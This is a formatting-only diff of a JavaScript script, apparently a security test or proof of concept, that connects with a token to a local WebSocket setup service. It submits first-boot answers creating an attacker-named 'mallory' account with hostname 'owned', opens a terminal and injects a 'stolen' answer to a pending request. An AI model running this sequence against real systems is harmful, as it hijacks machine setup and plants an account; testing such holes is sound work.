@@ -15,7 +15,8 @@ token = token.trim();
 /** a client's WebSocket frame: FIN, `op`, masked as a client's must be */
 function frame(op, payload) {
   const mask = randomBytes(4);
-  const head = payload.length < 126 ? Buffer.from([0x80 | op, 0x80 | payload.length]) : Buffer.from([0x80 | op, 0x80 | 126, payload.length >> 8, payload.length & 0xff]);
+  const head =
+    payload.length < 126 ? Buffer.from([0x80 | op, 0x80 | payload.length]) : Buffer.from([0x80 | op, 0x80 | 126, payload.length >> 8, payload.length & 0xff]);
   const body = Buffer.from(payload.map((b, i) => b ^ mask[i % 4]));
   return Buffer.concat([head, mask, body]);
 }
@@ -23,9 +24,13 @@ const text = (m) => frame(0x1, Buffer.from(JSON.stringify(m)));
 const binary = (bytes) => frame(0x2, Buffer.from(bytes));
 
 const s = connect(port, "127.0.0.1");
-let got = "", sent = 0, upgrade;
+let got = "",
+  sent = 0,
+  upgrade;
 s.on("connect", () =>
-  s.write(`GET /ws?token=${encodeURIComponent(token)} HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\nOrigin: http://127.0.0.1:${port}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: ${randomBytes(16).toString("base64")}\r\n\r\n`),
+  s.write(
+    `GET /ws?token=${encodeURIComponent(token)} HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\nOrigin: http://127.0.0.1:${port}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: ${randomBytes(16).toString("base64")}\r\n\r\n`,
+  ),
 );
 s.on("data", (d) => {
   got += d.toString("latin1");
@@ -34,7 +39,12 @@ s.on("data", (d) => {
   upgrade = Number(m[1]);
   if (upgrade !== 101) return s.destroy();
   s.write(binary([0x03, 1, ...Buffer.from("mallory-pw-1234")])); // the first user's password
-  s.write(text({ type: "firstboot_submit", answers: { layout: "us", variant: "", locale: "C.UTF-8", timezone: "UTC", hostname: "owned", fullName: "Mallory", username: "mallory", rootLocked: true } }));
+  s.write(
+    text({
+      type: "firstboot_submit",
+      answers: { layout: "us", variant: "", locale: "C.UTF-8", timezone: "UTC", hostname: "owned", fullName: "Mallory", username: "mallory", rootLocked: true },
+    }),
+  );
   s.write(text({ type: "terminal_open", cols: 80, rows: 24 }));
   s.write(binary([0x01, (key >>> 24) & 0xff, (key >>> 16) & 0xff, (key >>> 8) & 0xff, key & 0xff, ...Buffer.from("stolen")])); // an answer to request KEY
   sent = 4;
